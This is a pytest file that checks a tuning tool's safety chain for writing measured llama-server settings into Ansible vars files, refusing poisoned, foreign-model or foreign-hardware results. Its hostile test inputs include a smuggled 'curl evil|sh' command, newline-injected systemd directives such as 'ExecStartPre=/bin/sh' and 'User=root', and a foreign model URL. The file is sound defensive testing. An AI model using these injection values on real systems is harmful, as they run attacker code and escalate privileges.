"""The safety chain from a result to a vars file (tuner.safe_change): only measured, validated settings of the
served model, on the target's hardware, that Ansible resolves as written - or the file stays byte-identical.

The resolved-variables checks run the real ``ansible-inventory`` on small inventories written here."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import optuna
import pytest
import yaml
from result_support import (
    DEPLOYS_MEASURED_SERVER,
    HOST_FINGERPRINT,
    MEASURED_SERVER,
    MODEL_SHA,
    WINNER,
    proven_result,
    proven_tune_result,
    write_result_file,
)

from tuner.atomic import previous_path
from tuner.config import RunConfig
from tuner.errors import UserError
from tuner.inventory import ResolvedInventory, vars_file_owner
from tuner.model.checksum import combined_sha256, sha256_of
from tuner.safe_change import TUNED_BINARY_VAR, proven_change, write_back

DEPLOYED = f"""\
---
# rack 7, multi-slot chat deployment
llama_server_model_sha256: "{MODEL_SHA}"
llama_server_threads: 32
llama_server_parallel: 4          # four chat slots
llama_server_cont_batching: true
llama_server_ctx_size: 16384
""" + DEPLOYS_MEASURED_SERVER


def cli_write_back(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "tuner.cli", "write-back", *args], capture_output=True,
                          text=True, timeout=120, check=False)


def poisoned(result: dict[str, Any], where: str, key: str, value: Any) -> dict[str, Any]:
    """``result`` with ``key`` set to ``value`` in settings.config or settings.role_vars (or both)."""
    if where in ("config", "both"):
        result["settings"]["config"][key.removeprefix("llama_server_")] = value
    if where in ("role_vars", "both"):
        result["settings"]["role_vars"][key if key.startswith("llama_server_") else f"llama_server_{key}"] = value
    return result


HOSTILE = [
    pytest.param("role_vars", "llama_server_host", "0.0.0.0", "does not measure", id="public-bind"),
    pytest.param("role_vars", "llama_server_api_key", "", "does not measure", id="empty-api-key"),
    pytest.param("role_vars", "llama_server_model_url", "https://evil.example/m.gguf", "does not measure",
                 id="foreign-source-url"),
    pytest.param("role_vars", "llama_server_model_sha256", "cd" * 32, "does not measure", id="foreign-sha256"),
    pytest.param("role_vars", "llama_server_extra_args", ["--rpc", "evil:50052"], "does not measure", id="extra-args"),
    pytest.param("role_vars", "llama_server_llamahost_command", "/tmp/x; curl evil|sh", "does not measure",
                 id="controller-command"),
    pytest.param("both", "cache_type_k", "f16\nExecStartPre=/bin/sh -c id", "cache_type_k must be one of",
                 id="newline-in-a-choice"),
    pytest.param("both", "cpus", "0-3\nExecStart=/bin/sh", "malformed CPU list", id="newline-in-a-cpu-list"),
    pytest.param("both", "threads", "4\n[Service]", "threads must be an integer", id="newline-in-a-number"),
    pytest.param("role_vars", "llama_server_threads", "24\nUser=root", "do not match", id="newline-in-role-vars-only"),
    pytest.param("both", "threads", 10**9, "threads must be an integer from 1", id="out-of-bounds"),
    pytest.param("both", "cont_batching", "yes", "cont_batching must be true or false", id="string-for-a-bool"),
    pytest.param("config", "numa", "distribute --rpc x", "numa must be one of", id="flag-smuggled-in-a-choice"),
]


@pytest.mark.parametrize(("where", "key", "value", "fragment"), HOSTILE)
def test_hostile_results_are_refused_and_the_file_stays_byte_identical(
        tmp_path: Path, where: str, key: str, value: Any, fragment: str) -> None:
    path = tmp_path / "h1.yml"
    path.write_text(DEPLOYED)
    result = poisoned(proven_result(kind="live"), where, key, value)
    done = cli_write_back(str(write_result_file(tmp_path / "r.yaml", result)), "--vars", str(path))
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert fragment in done.stderr and "Traceback" not in done.stderr, done.stderr
    assert path.read_bytes() == DEPLOYED.encode() and not previous_path(path).exists()


def test_a_poisoned_study_row_is_refused_before_anything_is_rendered() -> None:
    """A configuration read back from a (shared) study store is validated before it becomes a command line or a
    unit file: the candidates of a proof are rebuilt through RunConfig.from_dict."""
    from tuner.pipeline import ProofSettings, verify_candidates
    from tuner.stats import StopRule

    study = optuna.create_study(study_name="poisoned", direction="maximize")
    trial = study.ask()
    config = WINNER.to_dict() | {"cache_type_v": "f16\nExecStartPre=/usr/bin/curl evil"}
    trial.set_user_attr("config", config)
    study.tell(trial, 10.0)

    class NeverMeasured:
        def __call__(self, *args: object, **kwargs: object) -> object:
            raise AssertionError("nothing may be measured or rendered from a poisoned row")

    with pytest.raises(UserError, match=r"trial 0 of study poisoned: cache_type_v must be one of"):
        verify_candidates(study, WINNER, NeverMeasured(), None, 0.0, 1.0, 3,  # type: ignore[arg-type]
                          ProofSettings(stop=StopRule()))


def test_a_benchmark_result_keeps_the_deployments_slots_batching_and_context(tmp_path: Path) -> None:
    path = tmp_path / "h1.yml"
    path.write_text(DEPLOYED)
    benchmark = proven_result(WINNER.with_changes(parallel=1, cont_batching=False, ctx_size=512))
    assert not {"llama_server_parallel", "llama_server_cont_batching", "llama_server_ctx_size"} \
        & set(benchmark["settings"]["role_vars"]), "a benchmark result does not carry what it did not measure"
    outcome = write_back(benchmark, path)
    assert outcome.written is not None and outcome.written.wrote
    data = yaml.safe_load(path.read_text())
    assert (data["llama_server_parallel"], data["llama_server_cont_batching"], data["llama_server_ctx_size"]) \
        == (4, True, 16384)
    assert data["llama_server_threads"] == 24 and "# four chat slots" in path.read_text()


def test_a_benchmark_result_that_smuggles_a_live_setting_is_refused(tmp_path: Path) -> None:
    result = proven_result()
    result["settings"]["role_vars"]["llama_server_parallel"] = 1
    with pytest.raises(UserError, match="a benchmark run does not measure: llama_server_parallel"):
        proven_change(result)


def test_a_live_result_writes_what_a_live_server_measured(tmp_path: Path) -> None:
    path = tmp_path / "h1.yml"
    path.write_text(DEPLOYED)
    write_back(proven_result(WINNER.with_changes(parallel=8), kind="live"), path)
    assert yaml.safe_load(path.read_text())["llama_server_parallel"] == 8


def test_a_result_of_another_model_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "h1.yml"
    path.write_text(DEPLOYED)
    done = cli_write_back(str(write_result_file(tmp_path / "r.yaml", proven_result(model_sha="cd" * 32))),
                          "--vars", str(path))
    assert done.returncode == 2 and "measured on model cdcdcdcdcdcd" in done.stderr, done.stderr
    assert "serves abababababab" in done.stderr
    assert path.read_bytes() == DEPLOYED.encode()


def test_a_result_of_other_hardware_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "h1.yml"
    path.write_text(DEPLOYED)
    result = write_result_file(tmp_path / "r.yaml", proven_result(fleet_group="0123456789abcdef"))
    refused = cli_write_back(str(result), "--vars", str(path), "--hardware", "fedcba9876543210")
    assert refused.returncode == 2 and "other hardware" in refused.stderr, refused.stderr
    assert path.read_bytes() == DEPLOYED.encode()
    for same in ("0123456789abcdef", HOST_FINGERPRINT):  # the group digest, or the host's own fingerprint
        path.write_text(DEPLOYED)
        assert cli_write_back(str(result), "--vars", str(path), "--hardware", same).returncode == 0


# ---- resolved by Ansible: an inventory whose host_vars outrank the group's file ------------------------------

def inventory(root: Path, *, host_override: bool) -> Path:
    hosts = {"all": {"children": {"llama_hosts": {"children": {"rack7": {"hosts": {"h1": None, "h2": None}}}}}}}
    (root / "group_vars").mkdir(parents=True)
    (root / "host_vars").mkdir()
    (root / "hosts.yml").write_text(yaml.safe_dump(hosts))
    (root / "group_vars" / "llama_hosts.yml").write_text(f"llama_server_model_sha256: {MODEL_SHA}\n"
                                                         + DEPLOYS_MEASURED_SERVER)
    (root / "group_vars" / "rack7.yml").write_text("---\n# rack 7\nllama_server_port: 8080\n")
    # what a Pulumi inventory does: the initial thread count as a host variable
    (root / "host_vars" / "h2.yml").write_text("llama_server_threads: 32\n" if host_override else "ansible_host: h2\n")
    return root / "hosts.yml"


def test_a_host_vars_override_of_a_winner_variable_stops_the_write_and_names_file_and_variable(tmp_path: Path) -> None:
    hosts = inventory(tmp_path / "inv", host_override=True)
    group_vars = hosts.parent / "group_vars" / "rack7.yml"
    before = group_vars.read_bytes()
    done = cli_write_back(str(write_result_file(tmp_path / "r.yaml", proven_result())), "--vars", str(group_vars))
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert "llama_server_threads on h2" in done.stderr and str(hosts.parent / "host_vars" / "h2.yml") in done.stderr
    assert "Traceback" not in done.stderr
    assert group_vars.read_bytes() == before, "the group's file was put back byte for byte"


def test_the_group_write_back_is_checked_on_every_host_as_ansible_resolves_it(tmp_path: Path) -> None:
    hosts = inventory(tmp_path / "inv", host_override=False)
    group_vars = hosts.parent / "group_vars" / "rack7.yml"
    done = cli_write_back(str(write_result_file(tmp_path / "r.yaml", proven_result())), "--vars", str(group_vars),
                          "--inventory", str(hosts), "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["wrote"] and report["checked_hosts"] == ["h1", "h2"]
    assert "# rack 7" in group_vars.read_text()


def test_a_dry_run_checks_everything_on_a_copy_shows_the_diff_and_writes_nothing(tmp_path: Path) -> None:
    hosts = inventory(tmp_path / "inv", host_override=False)
    group_vars = hosts.parent / "group_vars" / "rack7.yml"
    before = group_vars.read_bytes()
    result = str(write_result_file(tmp_path / "r.yaml", proven_result()))
    dry = cli_write_back(result, "--vars", str(group_vars), "--dry-run", "--json")
    assert dry.returncode == 0, dry.stderr
    planned = json.loads(dry.stdout)
    assert planned["dry_run"] and not planned["wrote"] and planned["resolved_checked"]
    assert planned["checked_hosts"] == ["h1", "h2"]
    assert group_vars.read_bytes() == before and not previous_path(group_vars).exists()
    assert "+llama_server_threads: 24" in planned["diff"] and " # rack 7" in planned["diff"]
    done = cli_write_back(result, "--vars", str(group_vars), "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["changed"] == planned["changed"]
    added = [line[1:] for line in planned["diff"].splitlines() if line.startswith("+") and not line.startswith("+++")]
    assert added and all(line in group_vars.read_text().splitlines() for line in added), "the diff is what was written"


def test_a_dry_run_finds_the_override_a_real_write_would_find_and_writes_nothing(tmp_path: Path) -> None:
    hosts = inventory(tmp_path / "inv", host_override=True)
    group_vars = hosts.parent / "group_vars" / "rack7.yml"
    before = group_vars.read_bytes()
    done = cli_write_back(str(write_result_file(tmp_path / "r.yaml", proven_result())), "--vars", str(group_vars),
                          "--dry-run")
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert "llama_server_threads on h2" in done.stderr and str(hosts.parent / "host_vars" / "h2.yml") in done.stderr
    assert "Traceback" not in done.stderr
    assert group_vars.read_bytes() == before and not previous_path(group_vars).exists()


def test_a_host_serving_another_model_stops_the_group_write_back(tmp_path: Path) -> None:
    hosts = inventory(tmp_path / "inv", host_override=False)
    (hosts.parent / "host_vars" / "h1.yml").write_text(f"llama_server_model_sha256: {'cd' * 32}\n")
    group_vars = hosts.parent / "group_vars" / "rack7.yml"
    before = group_vars.read_bytes()
    done = cli_write_back(str(write_result_file(tmp_path / "r.yaml", proven_result())), "--vars", str(group_vars))
    assert done.returncode == 2 and "host h1 serves cdcdcdcdcdcd" in done.stderr, done.stderr
    assert group_vars.read_bytes() == before


def test_a_split_model_pinned_shard_by_shard_is_the_model_the_tuner_measured(tmp_path: Path) -> None:
    """The role pins a split model as one sha256 per shard; the tuner names it by the digest of that list. A
    result measured on it is written; the same shards pinned in another order are another model."""
    shards = ["ab" * 32, "ef" * 32]
    hosts = inventory(tmp_path / "inv", host_override=False)
    group_vars = hosts.parent / "group_vars" / "rack7.yml"
    result = write_result_file(tmp_path / "r.yaml", proven_result(model_sha=combined_sha256(shards)))
    for order, expected in ((shards[::-1], 2), (shards, 0)):
        pinned = yaml.safe_dump({"llama_server_model_sha256": order})
        (hosts.parent / "group_vars" / "llama_hosts.yml").write_text(pinned + DEPLOYS_MEASURED_SERVER)
        done = cli_write_back(str(result), "--vars", str(group_vars), "--inventory", str(hosts))
        assert done.returncode == expected, (order, done.stderr)
    assert yaml.safe_load(group_vars.read_text())["llama_server_threads"] == WINNER.threads


def test_the_inventory_listing_resolves_groups_through_their_children() -> None:
    listing = {"_meta": {"hostvars": {"h1": {"a": 1}, "h2": {}}},
               "all": {"children": ["ungrouped", "llama_hosts"]},
               "llama_hosts": {"children": ["rack7", "rack8"]}, "rack7": {"hosts": ["h2", "h1"]},
               "rack8": {"hosts": ["h3"]}, "ungrouped": {}}
    resolved = ResolvedInventory.from_listing(listing)
    assert resolved.groups["llama_hosts"] == ("h1", "h2", "h3")
    assert resolved.targets_of(Path("inv/group_vars/rack7.yml")) == ("h1", "h2")
    assert resolved.targets_of(Path("inv/host_vars/h1.yml")) == ("h1",)
    with pytest.raises(UserError, match="not in the inventory"):
        resolved.targets_of(Path("inv/host_vars/h9.yml"))
    assert vars_file_owner(Path("inv/host_vars/h1/tuned.yml")) == ("host_vars", "h1")
    with pytest.raises(UserError, match="not in a host_vars/ or group_vars/ directory"):
        vars_file_owner(Path("elsewhere/h1.yml"))


def test_role_variables_read_as_inventories_spell_them() -> None:
    deployed = RunConfig.from_role_vars({"llama_server_threads": "8", "llama_server_cont_batching": "yes",
                                         "llama_server_parallel": 4})
    assert (deployed.threads, deployed.cont_batching, deployed.parallel) == (8, True, 4)


# ---- a live run: the result is saved first, a failed apply puts the vars file back ---------------------------

class AdoptingControl:
    """The server control's adopt step, observed: what the result file said when it ran, and whether it fails."""

    def __init__(self, result_path: Path, *, fails: bool) -> None:
        self.result_path, self.fails = result_path, fails
        self.state_seen: str | None = None

    def adopt(self, config: RunConfig) -> None:
        self.state_seen = yaml.safe_load(self.result_path.read_text())["write_back"]["state"]
        if self.fails:
            raise UserError("the role refused the unit (health check failed)")


def live_context(tmp_path: Path, host_vars: Path, control: AdoptingControl) -> Any:
    from types import SimpleNamespace

    from tuner.live.session import LiveRequest

    return SimpleNamespace(request=LiveRequest(budget_seconds=3600, host_vars=host_vars, apply=True),
                           result_path=control.result_path, control=control,
                           probe=SimpleNamespace(fingerprint=lambda: HOST_FINGERPRINT),
                           study=SimpleNamespace(study_name="live-s"))


class Events:
    def event(self, message: str) -> None:
        pass


@pytest.mark.parametrize("fails", [False, True], ids=["applied", "apply-fails"])
def test_a_live_result_is_saved_before_the_write_and_a_failed_apply_restores_the_vars(
        tmp_path: Path, fails: bool) -> None:
    from tuner.live.session import save_write_and_apply

    host_vars = tmp_path / "h1.yml"
    host_vars.write_text(DEPLOYED)
    control = AdoptingControl(tmp_path / "result.yaml", fails=fails)
    result = proven_tune_result(kind="live")
    if not fails:
        written, applied = save_write_and_apply(live_context(tmp_path, host_vars, control), result, Events())
        assert applied and written is not None and written.wrote
        assert control.state_seen == "written", "the vars were written, and the result saved, before the apply"
        assert yaml.safe_load(control.result_path.read_text())["write_back"]["state"] == "written and applied"
        return
    with pytest.raises(UserError, match="could not be applied") as refused:
        save_write_and_apply(live_context(tmp_path, host_vars, control), result, Events())
    assert "was put back as it was" in refused.value.fix and "llamahost apply --study live-s" in refused.value.fix
    assert host_vars.read_bytes() == DEPLOYED.encode(), "the inventory never names a winner the host does not run"
    saved = yaml.safe_load(control.result_path.read_text())
    assert saved["verdict"] == "improved" and saved["settings"]["config"]["threads"] == WINNER.threads
    assert saved["write_back"]["state"] == "apply failed, vars file restored"
    assert "health check failed" in saved["write_back"]["reason"]


def test_a_refused_live_write_back_keeps_the_proof(tmp_path: Path) -> None:
    from tuner.live.session import save_write_and_apply

    host_vars = tmp_path / "h1.yml"
    host_vars.write_text(DEPLOYED)
    control = AdoptingControl(tmp_path / "result.yaml", fails=False)
    with pytest.raises(UserError, match="measured on model"):
        save_write_and_apply(live_context(tmp_path, host_vars, control),
                             proven_tune_result(kind="live", model_sha="cd" * 32), Events())
    assert control.state_seen is None and host_vars.read_bytes() == DEPLOYED.encode()
    saved = yaml.safe_load(control.result_path.read_text())
    assert saved["write_back"]["state"] == "refused by the safety checks" and saved["verdict"] == "improved"


# ---- the build: a benchmark result is rolled out only onto the llama-server it was measured on ------------------

def test_a_result_measured_on_another_build_is_refused_and_says_which_build_to_use(tmp_path: Path) -> None:
    other = tmp_path / "other-llama-server"
    other.write_bytes(b"#!/bin/sh\n# a build the result was not measured on\n")
    vars_file = tmp_path / "h1.yml"
    vars_file.write_text(DEPLOYED.replace(str(MEASURED_SERVER), str(other)))
    before = vars_file.read_bytes()
    result = write_result_file(tmp_path / "r.yaml", proven_result())
    done = cli_write_back(str(result), "--vars", str(vars_file))
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "was measured on llama-server" in done.stderr and str(other) in done.stderr
    assert f"--server-binary {other}" in done.stderr and str(MEASURED_SERVER) in done.stderr, "both ways out"
    assert vars_file.read_bytes() == before


@pytest.mark.parametrize(("change", "fragment"), [
    ({"llama_server_install_mode": "source"}, "builds llama.cpp itself"),
    ({"llama_server_binary_src": "{{ playbook_dir }}/llama-server"}, "through a template"),
    ({"llama_server_binary_src": "/nonexistent/llama-server"}, "does not exist on this machine"),
])
def test_a_target_whose_build_cannot_be_compared_is_refused(tmp_path: Path, change: dict[str, str],
                                                             fragment: str) -> None:
    vars_file = tmp_path / "h1.yml"
    vars_file.write_text(yaml.safe_dump({**yaml.safe_load(DEPLOYED), **change}))
    before = vars_file.read_bytes()
    with pytest.raises(UserError, match=fragment):
        write_back(proven_result(), vars_file)
    assert vars_file.read_bytes() == before


def test_a_benchmark_result_that_names_no_build_is_refused_and_a_live_one_needs_none(tmp_path: Path) -> None:
    """Results from before trials ran the deployed build (llama-cpp-python's in-process build) are not trusted;
    a live run measured the deployment itself, whatever it runs."""
    with pytest.raises(UserError, match="does not name the llama-server build"):
        proven_change(proven_result(server=None))
    live = proven_change(proven_result(RunConfig(threads=8, threads_batch=8), kind="live", server=None))
    assert live is not None and live.server is None and live.build_sha256 == ""


def test_the_build_the_settings_were_measured_on_is_written_next_to_them(tmp_path: Path) -> None:
    """The role compares it with the llama-server it is about to copy (test_role_contract). A later live result
    writes the build it read from the deployment, or clears the earlier one when it read none: the earlier
    build is not what the new settings were measured on."""
    vars_file = tmp_path / "h1.yml"
    vars_file.write_text(DEPLOYED)
    measured = sha256_of(MEASURED_SERVER)
    written = write_back(proven_result(), vars_file).written
    assert written is not None and written.changed[TUNED_BINARY_VAR] == (None, measured)
    assert yaml.safe_load(vars_file.read_text())[TUNED_BINARY_VAR] == measured
    live = RunConfig(threads=8, threads_batch=8)
    write_back(proven_result(live, kind="live", server=None), vars_file)
    assert yaml.safe_load(vars_file.read_text())[TUNED_BINARY_VAR] == ""
    write_back(proven_result(live.with_changes(threads=4, threads_batch=4), kind="live"), vars_file)
    assert yaml.safe_load(vars_file.read_text())[TUNED_BINARY_VAR] == measured
